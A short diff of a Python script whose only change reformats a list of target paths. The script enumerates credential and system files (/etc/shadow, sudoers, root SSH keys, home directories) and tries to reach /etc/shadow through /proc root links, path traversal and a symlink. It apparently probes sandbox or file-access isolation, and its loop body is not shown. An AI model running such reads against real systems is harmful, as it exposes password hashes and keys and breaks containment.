@@ -2,7 +2,16 @@
 import glob
 import os
 
-PLACES = ["/etc/shadow", "/etc/sudoers", "/root/.ssh/*", "/root/.*", "/home/*/*", "/var/lib/*/*", "/var/log/*", "/srv/*"]
+PLACES = [
+    "/etc/shadow",
+    "/etc/sudoers",
+    "/root/.ssh/*",
+    "/root/.*",
+    "/home/*/*",
+    "/var/lib/*/*",
+    "/var/log/*",
+    "/srv/*",
+]
 PLACES += ["/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/../../etc/shadow", "/work/*", "/opt/*/*"]
 os.symlink("/etc/shadow", "/tmp/link")
 for path in [found for place in PLACES for found in glob.glob(place)] + ["/tmp/link"]:
